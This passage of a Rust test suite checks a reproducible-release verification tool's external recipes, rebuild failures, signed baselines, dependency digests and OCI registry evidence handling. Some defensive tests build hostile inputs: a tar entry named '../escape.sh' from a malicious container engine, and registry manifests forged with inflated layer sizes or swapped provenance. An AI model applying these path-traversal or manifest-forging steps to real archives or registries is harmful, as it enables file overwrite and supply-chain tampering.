                sha256: reprove_digest::sha256_bytes(&own).hex(),
            },
            bytes: own.clone(),
        };
        let opts =
            |out: &Path, recipe: Option<crate::pipeline::OutsideRecipe>| crate::pipeline::Options {
                artifacts: Some(fx.dist()),
                images: Vec::new(),
                evidence: out.to_owned(),
                force: false,
                engine: Default::default(),
                previous: None,
                fetch: Default::default(),
                recipe,
            };
        let out = fx.dir.path().join("evidence-outside");
        let r = crate::pipeline::release_with(
            &builder(b"app 1\n"),
            &fx.repo(),
            &tag("v1.1.0"),
            &opts(&out, Some(outside.clone())),
            &fx.key,
            &|_, _| {},
        )
        .unwrap();
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Released);
        assert_eq!(
            std::fs::read(out.join(crate::evidence::RECIPE)).unwrap(),
            own
        );
        let report = fx.verify_with(|o| {
            o.evidence = out.clone();
            o.tag = tag("v1.1.0");
        });
        assert_verified(&report);
        let prov = report.provenance.as_ref().unwrap();
        assert_eq!(
            prov["predicate"]["buildDefinition"]["externalParameters"]["externalRecipe"]["sha256"],
            outside.external.sha256
        );

        // The evidence's recipe must be the one the provenance names: another one (vouched by
        // a forged index or not) is a recipe mismatch.
        let baseline = reprove_baseline::assemble(
            &fx.repo(),
            &tag("v1.1.0"),
            &reprove_baseline::Options {
                previous: None,
                artifacts: None,
                progress: &|_| {},
            },
        )
        .unwrap();
        let mut view =
            BaselineView::from_value(&serde_json::to_value(&baseline.statement).unwrap()).unwrap();
        view.attach_external_recipe(b"[build]\nimage = \"x\"\n");
        let found = super::provenance::agreement_with(&view, prov);
        assert!(
            found.iter().any(|f| f.starts_with("recipe-mismatch")
                && f.contains("recipe.toml")
                && f.contains("but the provenance names sha256:")),
            "{found:?}"
        );
        // Without the evidence's recipe, nothing says how it was built.
        let bare =
            BaselineView::from_value(&serde_json::to_value(&baseline.statement).unwrap()).unwrap();
        let found = super::provenance::agreement_with(&bare, prov);
        assert!(
            found.iter().any(|f| f.contains("no `[build]` recipe")),
            "{found:?}"
        );

        // A tag with a `[build]` of its own is released with it, never another.
        let err = crate::pipeline::release_with(
            &builder(b"app 1\n"),
            &fx.repo(),
            &tag("v1.0.0"),
            &opts(&fx.dir.path().join("evidence-own"), Some(outside)),
            &fx.key,
            &|_, _| {},
        )
        .unwrap_err();
        assert!(
            matches!(err, crate::ReleaseError::RecipeOfItsOwn { .. }),
            "{err}"
        );
    }

    #[test]
    fn a_rebuild_that_differs_is_a_failed_release_with_the_rebuilt_bytes_on_record() {
        let fx = Fx::new("hello");
        let out = fx.dir.path().join("evidence-fake");
        let r = release(&fx, &builder(b"app 2\n"), &out);
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Failed);
        assert!(!out.join(crate::evidence::PROVENANCE).exists());
        assert_eq!(
            std::fs::read(out.join(crate::evidence::REBUILT).join("app.txt")).unwrap(),
            b"app 2\n"
        );
        // Only what differs: lib.txt matched and is the published file again (issue 13).
        assert!(!out.join(crate::evidence::REBUILT).join("lib.txt").exists());
        assert!(
            r.index
                .failures
                .iter()
                .any(|f| f.contains("`app.txt` differs")),
            "{:?}",
            r.index.failures
        );
        // Every explanation report the rebuild names is in the evidence (typed hand-over,
        // not file-name matching).
        let report = r.report.as_ref().unwrap();
        assert_eq!(report.explanations.len(), 1);
        for f in report.explanations.iter().flat_map(|e| e.reports.iter()) {
            assert!(
                out.join(crate::evidence::EXPLANATIONS).join(f).is_file(),
                "{}",
                f.display()
            );
        }
    }

    #[test]
    fn a_failing_build_keeps_its_log_and_fails_the_release() {
        let fx = Fx::new("hello");
        let out = fx.dir.path().join("evidence-fake");
        let engine = FakeEngine::new(|_: &Job, _: &Path| RunEnd::Exited(2));
        let r = release(&fx, &engine, &out);
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Failed);
        let log = std::fs::read_to_string(out.join(crate::evidence::BUILD_LOG)).unwrap();
        assert!(log.contains("Exited(2)"), "{log}");
        assert!(
            r.index.failures.iter().any(|f| f.contains("exit code 2")),
            "{:?}",
            r.index.failures
        );
    }

    #[test]
    fn outputs_an_engine_returns_are_checked() {
        // An engine (a remote one, a cluster) returns what it likes: a path, a link, a name
        // twice. None of it may land outside the rebuild's own folder.
        let fx = Fx::new("hello");
        struct Evil;
        impl reprove_build::ContainerEngine for Evil {
            fn name(&self) -> &'static str {
                "evil"
            }
            fn version(&self) -> Result<String, reprove_build::BuildError> {
                Ok("1".into())
            }
            fn prepare_image(
                &self,
                _: &reprove_oci::ImageRef,
            ) -> Result<String, reprove_build::BuildError> {
                Ok("x".into())
            }
            fn run_job(
                &self,
                _: &Job,
                _: &mut dyn std::io::Read,
                _: &reprove_build::Listing,
                _: Option<reprove_build::StoreInput<'_>>,
                _: &mut (dyn std::io::Write + Send),
                outputs: &mut dyn std::io::Write,
            ) -> Result<RunEnd, reprove_build::BuildError> {
                let mut b = tar::Builder::new(outputs);
                let mut h = tar::Header::new_gnu();
                h.set_size(3);
                h.set_mode(0o644);
                h.set_entry_type(tar::EntryType::Regular);
                // `set_path` refuses `..`; write the name bytes as a hostile peer would.
                h.as_old_mut().name[..12].copy_from_slice(b"../escape.sh");
                h.set_cksum();
                // The reader may refuse the entry and close the pipe before the rest is
                // written (flaky under load before): a hostile peer does not care.
                let _ = b.append(&h, &b"bad"[..]);
                let _ = b.finish();
                Ok(RunEnd::Exited(0))
            }
        }
        let out = fx.dir.path().join("evidence-evil");
        let err = crate::pipeline::release_with(
            &Evil,
            &fx.repo(),
            &tag("v1.0.0"),
            &crate::pipeline::Options {
                artifacts: Some(fx.dist()),
                images: Vec::new(),
                evidence: out.clone(),
                force: false,
                engine: Default::default(),
                previous: None,
                fetch: Default::default(),
                recipe: None,
            },
            &fx.key,
            &|_, _| {},
        )
        .unwrap_err();
        assert!(
            matches!(
                &err,
                crate::ReleaseError::Rebuild {
                    source: reprove_build::BuildError::Outputs { .. }
                }
            ),
            "{err:?}"
        );
        assert!(!out.exists(), "nothing is written");
        assert!(!fx.dir.path().join("escape.sh").exists());
    }
}

/// The baseline is read once into its typed view; a signed statement with the baseline's
/// predicate type that does not read as one (no `release`) is refused, not half-read.
#[test]
fn a_signed_baseline_that_does_not_read_as_one_is_refused() {
    let fx = Fx::new("hello");
    let statement = json!({
        "_type": reprove_attest::STATEMENT_V1,
        "subject": [{"name": "app.txt", "digest": {"sha256": "00".repeat(32)}}],
        "predicateType": reprove_baseline::BASELINE_PREDICATE_TYPE,
        "predicate": {"project": {"name": "hello"}},
    });
    let bundle =
        reprove_attest::sign_statement(serde_json::to_vec(&statement).unwrap(), &fx.key).unwrap();
    std::fs::write(fx.evidence().join(evidence::BASELINE), bundle).unwrap();
    let r = fx.verify();
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    let f = findings(&r, "baseline-signature");
    assert!(
        f.contains("wrong-predicate") && f.contains("not a reprove baseline"),
        "{f}"
    );
    // Nothing downstream acts on it.
    assert!(r.baseline.is_none());
    assert!(findings(&r, "tag-commit").contains("no verified baseline"));
}

/// Regression (review of issue 12): `--rebuild` rebuilt whatever the tag named in this clone;
/// it rebuilds the signed commit, and refuses (without building) when the tag moved.
#[test]
fn verify_rebuild_refuses_a_moved_tag_without_building() {
    let fx = Fx::new("hello");
    std::fs::write(fx.repo_dir().join("src.c"), b"int main(){return 1;}\n").unwrap();
    fx.git(&[
        "commit",
        "-q",
        "-am",
        "moved\n\nReviewed-by: R <r@example.com>",
    ]);
    fx.git(&["tag", "-f", "v1.0.0"]);
    let r = fx.verify_with(|o| {
        o.rebuild = Some(RebuildCheck {
            engine: Default::default(),
            fetch: Default::default(),
        })
    });
    let f = findings(&r, "rebuild");
    assert!(
        f.starts_with("Fail") && f.contains("tag-moved") && f.contains("not rebuilt"),
        "{f}"
    );
    // The tag check's finding names the tag and both commits as fields, for dashboards.
    let moved = finding(&r, "tag-moved");
    assert_eq!(moved.reference(), Some("v1.0.0"));
    assert_eq!(moved.expected().map(str::len), Some(40));
    assert_ne!(moved.expected(), moved.actual());
}

/// A provenance built with a recipe from outside the tag says so (origin and sha256), and it
/// agrees with a baseline only when that recipe is the baseline's own.
#[test]
fn an_external_recipe_is_recorded_and_named_when_it_differs() {
    let fx = Fx::new("hello");
    let mut report = synthetic_report(&fx.repo(), &tag("v1.0.0"), &fx.dist()).unwrap();
    report.external_recipe = Some(reprove_build::ExternalRecipe {
        origin: "file recipe.toml".into(),
        sha256: "ab".repeat(32),
    });
    let baseline = reprove_baseline::assemble(
        &fx.repo(),
        &tag("v1.0.0"),
        &reprove_baseline::Options {
            previous: None,
            artifacts: None,
            progress: &|_| {},
        },
    )
    .unwrap();
    let b = serde_json::to_value(&baseline.statement).unwrap();
    let st = |report: &reprove_build::RebuildReport| {
        serde_json::to_value(
            crate::provenance::statement(report, &crate::provenance::Inputs::default()).unwrap(),
        )
        .unwrap()
    };
    let p = st(&report);
    assert_eq!(
        p["predicate"]["buildDefinition"]["externalParameters"]["externalRecipe"]["origin"],
        "file recipe.toml"
    );
    // The same recipe as the baseline's: nothing to say about the command.
    assert!(
        !provenance_agreement(&b, &p)
            .iter()
            .any(|f| f.contains("outside the release")),
        "{:?}",
        provenance_agreement(&b, &p)
    );
    // Another command: a recipe mismatch, and why.
    report.recipe.command = vec!["sh".into(), "-c".into(), "make other".into()];
    let found = provenance_agreement(&b, &st(&report));
    assert!(
        found
            .iter()
            .any(|f| f.starts_with("recipe-mismatch") && f.contains("outside the release")),
        "{found:?}"
    );
}

/// Regression (review of issue 12): the rebuild runs the recipe the baseline records, so
/// only a signed baseline may say what runs.
#[test]
fn an_unkeyed_verify_never_runs_a_recipe() {
    let fx = Fx::new("hello");
    let r = fx.verify_with(|o| {
        o.signers.clear();
        o.rebuild = Some(RebuildCheck {
            engine: Default::default(),
            fetch: Default::default(),
        });
    });
    let f = findings(&r, "rebuild");
    assert!(f.starts_with("Error") && f.contains("give a key"), "{f}");
}

/// `soup-closure`'s failure paths, on a baseline whose recipe fetches (npm, locked by sha512)
/// and provenances that list what the build was given.
#[test]
fn soup_closure_holds_fetched_packages_to_the_register_by_the_digest_it_locks() {
    let fx = Fx::new("hello");
    let baseline = reprove_baseline::assemble(
        &fx.repo(),
        &tag("v1.0.0"),
        &reprove_baseline::Options {
            previous: None,
            artifacts: None,
            progress: &|_| {},
        },
    )
    .unwrap();
    let mut b = serde_json::to_value(&baseline.statement).unwrap();
    b["predicate"]["build"]["fetch"] = json!({"command": "npm ci", "store": "/tmp/.npm"});
    let item = |name: &str, sha512: &str| {
        json!({"name": name, "version": "1.0.0", "ecosystem": "npm", "purl": format!("pkg:npm/{name}@1.0.0"),
               "scope": "direct", "manifest": "package-lock.json",
               "checksum": {"algorithm": "sha512", "value": sha512}})
    };
    let (a512, b512) = ("a".repeat(128), "b".repeat(128));
    b["predicate"]["soup"] = json!([item("left", &a512), item("right", &b512)]);
    let view = BaselineView::from_value(&b).unwrap();
    let report = synthetic_report(&fx.repo(), &tag("v1.0.0"), &fx.dist()).unwrap();
    let base =
        serde_json::to_value(crate::provenance::statement(&report, &Default::default()).unwrap())
            .unwrap();
    let with = |deps: &[(&str, Value)]| {
        let mut p = base.clone();
        p["predicate"]["buildDefinition"]["internalParameters"]["fetch"] =
            json!({"lockfiles": {"package-lock.json": "0".repeat(64)}});
        let list = p["predicate"]["buildDefinition"]["resolvedDependencies"]
            .as_array_mut()
            .unwrap();
        for (purl, digest) in deps {
            list.push(json!({"uri": purl, "digest": digest,
                              "annotations": {"role": crate::provenance::FETCHED_DEPENDENCY}}));
        }
        super::provenance::soup_closure(&view, &p)
    };
    let sha256 = "c".repeat(64);
    // Both packages, each by the sha512 the register locks: the set closes.
    let ok = with(&[
        (
            "pkg:npm/left@1.0.0",
            json!({"sha256": sha256, "sha512": a512}),
        ),
        (
            "pkg:npm/right@1.0.0",
            json!({"sha256": sha256, "sha512": b512}),
        ),
    ]);
    assert_eq!(ok.status, CheckStatus::Pass, "{:?}", ok.findings);
    // Another sha512, a sha256 alone (npm locks sha512), one not fetched, one not listed.
    let bad = with(&[
        (
            "pkg:npm/left@1.0.0",
            json!({"sha256": sha256, "sha512": b512}),
        ),
        ("pkg:npm/right@1.0.0", json!({"sha256": sha256})),
        (
            "pkg:npm/extra@1.0.0",
            json!({"sha256": sha256, "sha512": a512}),
        ),
    ]);
    assert_eq!(bad.status, CheckStatus::Fail);
    let codes: Vec<&str> = bad.findings.iter().map(|f| f.code.as_str()).collect();
    assert_eq!(
        codes,
        [
            "soup-digest-differs",
            "soup-digest-differs",
            "fetched-not-in-soup"
        ],
        "{:?}",
        bad.findings
    );
    let missing = with(&[(
        "pkg:npm/left@1.0.0",
        json!({"sha256": sha256, "sha512": a512}),
    )]);
    assert!(
        missing
            .findings
            .iter()
            .any(|f| f.code == "soup-not-fetched" && f.message.contains("pkg:npm/right@1.0.0")),
        "{:?}",
        missing.findings
    );
    // An optional package (another platform's binary) not fetched here closes the set.
    b["predicate"]["soup"][1]["optional"] = json!(true);
    let view = BaselineView::from_value(&b).unwrap();
    let mut p = base.clone();
    p["predicate"]["buildDefinition"]["internalParameters"]["fetch"] =
        json!({"lockfiles": {"package-lock.json": "0".repeat(64)}});
    p["predicate"]["buildDefinition"]["resolvedDependencies"]
        .as_array_mut()
        .unwrap()
        .push(
            json!({"uri": "pkg:npm/left@1.0.0", "digest": {"sha256": sha256, "sha512": a512},
                     "annotations": {"role": crate::provenance::FETCHED_DEPENDENCY}}),
        );
    let optional = super::provenance::soup_closure(&view, &p);
    assert_eq!(
        optional.status,
        CheckStatus::Pass,
        "{:?}",
        optional.findings
    );
}

// Evidence in a registry: pushed, pulled and verified against a real docker-registry.

mod in_a_registry {
    use super::*;
    use crate::ReleaseError;
    use crate::registry::{self, EvidenceRepo};
    use reprove_oci::registry::{ClientOptions, OCI_MANIFEST, RegistryClient};
    use reprove_oci::testing::TestRegistry;

    fn client() -> RegistryClient {
        RegistryClient::new(ClientOptions {
            auth_file: Some("/nonexistent".into()),
            ..Default::default()
        })
        .unwrap()
    }

    /// Every file of a folder with its bytes.
    fn files(dir: &Path) -> Vec<(String, Vec<u8>)> {
        crate::evidence::scan(dir)
            .unwrap()
            .into_iter()
            .map(|e| {
                let b = std::fs::read(dir.join(&e.path)).unwrap();
                (e.path, b)
            })
            .collect()
    }

    #[test]
    fn evidence_pushed_to_a_registry_comes_back_byte_for_byte_and_verifies() {
        let fx = Fx::new("hello");
        let reg = TestRegistry::start();
        let c = client();
        let to: EvidenceRepo = format!("oci://{}/acme/evidence", reg.host).parse().unwrap();
        let pushed = registry::push(&c, &fx.evidence(), &to, false).unwrap();
        assert!(!pushed.unchanged);
        assert_eq!(pushed.files, files(&fx.evidence()).len());
        assert!(
            pushed.reference.contains(":v1.0.0@sha256:"),
            "{}",
            pushed.reference
        );
        // Each bundle is a referrer of the evidence manifest, with the bundle media type and
        // the predicate type cosign and @sigstore/oci annotate.
        let found = c
            .referrers(
                to.image(),
                &pushed.manifest,
                Some(registry::SIGSTORE_BUNDLE),
            )
            .unwrap();
        let mut kinds: Vec<String> = found
            .iter()
            .map(|d| d.annotations[registry::BUNDLE_PREDICATE_TYPE].clone())
            .collect();
        kinds.sort();
        assert_eq!(kinds.len(), 3, "{kinds:?}");
        assert!(
            kinds
                .iter()
                .any(|k| k.starts_with("https://slsa.dev/provenance/v1"))
        );
        // The same evidence again changes nothing (the manifests are deterministic).
        let again = registry::push(&c, &fx.evidence(), &to, false).unwrap();
        assert!(again.unchanged);
        assert_eq!(again.manifest, pushed.manifest);

        let out = fx.dir.path().join("pulled/v1.0.0");
        let pulled = registry::pull(
            &c,
            &to,
            &to.reference(Some("v1.0.0")).unwrap(),
            &out,
            false,
            true,
            None,
        )
        .unwrap();
        assert_eq!(pulled.manifest, pushed.manifest);
        assert_eq!(pulled.release_tag.as_deref(), Some("v1.0.0"));
        assert_eq!(files(&out), files(&fx.evidence()));
        assert_verified(&fx.verify_with(|o| o.evidence = out.clone()));
        // By digest too; an existing folder is not replaced without force.
        let by_digest = pushed.manifest.to_string();
        assert!(matches!(
            registry::pull(&c, &to, &by_digest, &out, false, true, None),
            Err(ReleaseError::EvidenceExists { .. })
        ));
        registry::pull(&c, &to, &by_digest, &out, true, true, None).unwrap();
        assert_eq!(files(&out), files(&fx.evidence()));
        assert_eq!(
            registry::release_tags(&c, &to).unwrap(),
            ["v1.0.0"],
            "fallback tags are not releases"
        );
    }

    /// Regression (attack review of issue 16): a pull for a verification downloaded every
    /// layer before any signature was checked, so anyone who may push could make `status`
    /// download gigabytes per release. Gated, it reads the signed index first and downloads
    /// only what that vouches for.
    #[test]
    fn a_pull_for_a_verification_downloads_only_what_the_signed_index_vouches_for() {
        let fx = Fx::new("hello");
        let reg = TestRegistry::start();
        let c = client();
        let to: EvidenceRepo = format!("oci://{}/acme/evidence", reg.host).parse().unwrap();
        registry::push(&c, &fx.evidence(), &to, false).unwrap();
        let signers = [fx.signer()];
        let gate = registry::Gate {
            signers: &signers,
            root: None,
        };
        // The genuine release: everything comes, byte for byte, and verifies.
        let out = fx.dir.path().join("gated/genuine");
        let p = registry::pull(&c, &to, "v1.0.0", &out, false, false, Some(&gate)).unwrap();
        assert_eq!(p.not_downloaded, 0);
        assert_eq!(files(&out), files(&fx.evidence()));
        assert_eq!(
            fx.verify_with(|o| o.evidence = out.clone()).verdict,
            VerifyVerdict::Verified
        );

        // An attacker adds a 3 GiB layer and grows the provenance to 2 GiB (sizes the blob
        // does not have: a pull that read them would fail): neither is downloaded,
        // each stands as a sparse file of its size, and verify names both.
        let original = c.get_manifest(to.image(), "v1.0.0").unwrap().unwrap();
        let mut m: Value = serde_json::from_slice(&original.bytes).unwrap();
        // (Debian's registry checks that a layer's blob exists, not its size.)
        let absent = c.push_blob(to.image(), b"a few bytes").unwrap();
        let mut grown = String::new();
        for l in m["layers"].as_array_mut().unwrap() {
            if l["annotations"][registry::TITLE] == crate::evidence::PROVENANCE {
                grown = crate::evidence::PROVENANCE.to_owned();
                l["digest"] = json!(absent.to_string());
                l["size"] = json!(2u64 << 30);
            }
        }
        assert!(!grown.is_empty());
        m["layers"].as_array_mut().unwrap().push(json!({
            "mediaType": "application/octet-stream",
            "digest": absent.to_string(),
            "size": 3u64 << 30,
            "annotations": {(registry::TITLE): "payload.bin"},
        }));
        // A placeholder named like a bundle is not read either (it was, whole, to recognise
        // the release's own referrers: 4 GiB of memory per such name).
        m["layers"].as_array_mut().unwrap().push(json!({
            "mediaType": registry::SIGSTORE_BUNDLE,
            "digest": absent.to_string(),
            "size": 4u64 << 30,
            "annotations": {(registry::TITLE): "provenance-huge.sigstore.json"},
        }));
        c.push_manifest(
            to.image(),
            "v1.0.0",
            OCI_MANIFEST,
            &serde_json::to_vec(&m).unwrap(),
        )
        .unwrap();
        let out = fx.dir.path().join("gated/attacked");
        let p = registry::pull(&c, &to, "v1.0.0", &out, false, false, Some(&gate)).unwrap();
        assert_eq!(p.not_downloaded, 3);
        assert!(
            p.bytes < 1 << 20,
            "only what was downloaded counts: {}",
            p.bytes
        );
        assert_eq!(
            std::fs::metadata(out.join("payload.bin")).unwrap().len(),
            3 << 30
        );
        let r = fx.verify_with(|o| o.evidence = out.clone());
        assert_eq!(r.verdict, VerifyVerdict::Failed);
        let codes: Vec<String> = r
            .checks
            .iter()
            .flat_map(|c| c.findings.iter().map(|f| f.code.clone()))
            .collect();
        assert!(
            codes.iter().any(|c| c == "evidence-unlisted")
                && codes.iter().any(|c| c == "digest-mismatch"),
            "{codes:?}"
        );
        // Without a gate (`pull-evidence`) the same manifest fails on the sizes.
        assert!(
            registry::pull(
                &c,
                &to,
                "v1.0.0",
                &fx.dir.path().join("gated/ungated"),
                false,
                false,
                None
            )
            .is_err()
        );

        // Under a key that did not sign it, only the index files come; verify fails closed.
        registry::push(&c, &fx.evidence(), &to, true).unwrap();
        let other = [Signer::Key {
            key: PrivateKey::generate(KeyAlgorithm::P256)
                .unwrap()
                .public_key(),
        }];
        let stranger = registry::Gate {
            signers: &other,
            root: None,
        };
        let out = fx.dir.path().join("gated/stranger");
        let p = registry::pull(&c, &to, "v1.0.0", &out, false, false, Some(&stranger)).unwrap();
        assert_eq!(
            p.not_downloaded,
            p.files - 2,
            "only index.json and its signature"
        );
        let r = fx.verify_with(|o| {
            o.evidence = out.clone();
            o.signers = other.to_vec();
        });
        assert_eq!(r.verdict, VerifyVerdict::Failed);
    }

    #[test]
    fn a_registry_cannot_swap_evidence_unnoticed() {
        let fx = Fx::new("hello");
        let reg = TestRegistry::start();
        let c = client();
        let to: EvidenceRepo = format!("oci://{}/acme/evidence", reg.host).parse().unwrap();
        let pushed = registry::push(&c, &fx.evidence(), &to, false).unwrap();
        let original = c.get_manifest(to.image(), "v1.0.0").unwrap().unwrap();
        let mut m: Value = serde_json::from_slice(&original.bytes).unwrap();

        // Whoever can push replaces the provenance with other bytes under a consistent
        // digest: the pull succeeds (the registry is self-consistent), verify does not.
        let forged = b"{\"mediaType\":\"application/vnd.dev.sigstore.bundle.v0.3+json\"}";
        let d = c.push_blob(to.image(), forged).unwrap();
        for l in m["layers"].as_array_mut().unwrap() {
            if l["annotations"][registry::TITLE] == crate::evidence::PROVENANCE {
                l["digest"] = json!(d.to_string());
                l["size"] = json!(forged.len());
            }
        }
        let bytes = serde_json::to_vec(&m).unwrap();
        c.push_manifest(to.image(), "v1.0.0", OCI_MANIFEST, &bytes)
            .unwrap();
        let out = fx.dir.path().join("pulled/v1.0.0");
        registry::pull(&c, &to, "v1.0.0", &out, false, true, None).unwrap();
        let r = fx.verify_with(|o| o.evidence = out.clone());
        assert_eq!(r.verdict, VerifyVerdict::Failed);

        // A layer whose size is not its blob's: refused, and nothing is left behind.
        let mut lying = serde_json::from_slice::<Value>(&original.bytes).unwrap();
        lying["layers"][0]["size"] = json!(1);
        let bytes = serde_json::to_vec(&lying).unwrap();
        c.push_manifest(to.image(), "lying", OCI_MANIFEST, &bytes)
            .unwrap();
        let out2 = fx.dir.path().join("pulled/lying");
        let e = registry::pull(&c, &to, "lying", &out2, false, true, None).unwrap_err();
        assert!(matches!(e, ReleaseError::Registry { .. }), "{e:?}");
        assert!(!out2.exists());
        let leftovers: Vec<_> = std::fs::read_dir(fx.dir.path().join("pulled"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert_eq!(leftovers, [std::ffi::OsString::from("v1.0.0")]);

        // An image or anything else under a release tag is not evidence.
        let image = json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
            "config": m["config"].clone(), "layers": []});
        c.push_manifest(
            to.image(),
            "image",
            OCI_MANIFEST,
            &serde_json::to_vec(&image).unwrap(),
        )
        .unwrap();
        assert!(matches!(
            registry::pull(
                &c,
                &to,
                "image",
                &fx.dir.path().join("x"),
                false,
                true,
                None
            ),
            Err(ReleaseError::NotEvidence { .. })
        ));
        assert!(matches!(
            registry::pull(&c, &to, "v9", &fx.dir.path().join("y"), false, true, None),
            Err(ReleaseError::NoEvidenceInRegistry { .. })
        ));

        // The genuine evidence does not replace what the tag now holds without force.
        assert!(matches!(
            registry::push(&c, &fx.evidence(), &to, false),
            Err(ReleaseError::EvidenceInRegistry { .. })
        ));
        let restored = registry::push(&c, &fx.evidence(), &to, true).unwrap();
        assert_eq!(restored.manifest, pushed.manifest);
        // Pushing to a location that names a release is a usage error.
        let tagged: EvidenceRepo = format!("oci://{}/acme/evidence:v1.0.0", reg.host)
            .parse()
            .unwrap();
        assert!(matches!(
            registry::push(&c, &fx.evidence(), &tagged, false),
            Err(ReleaseError::BadEvidenceLocation { .. })
        ));
    }
}
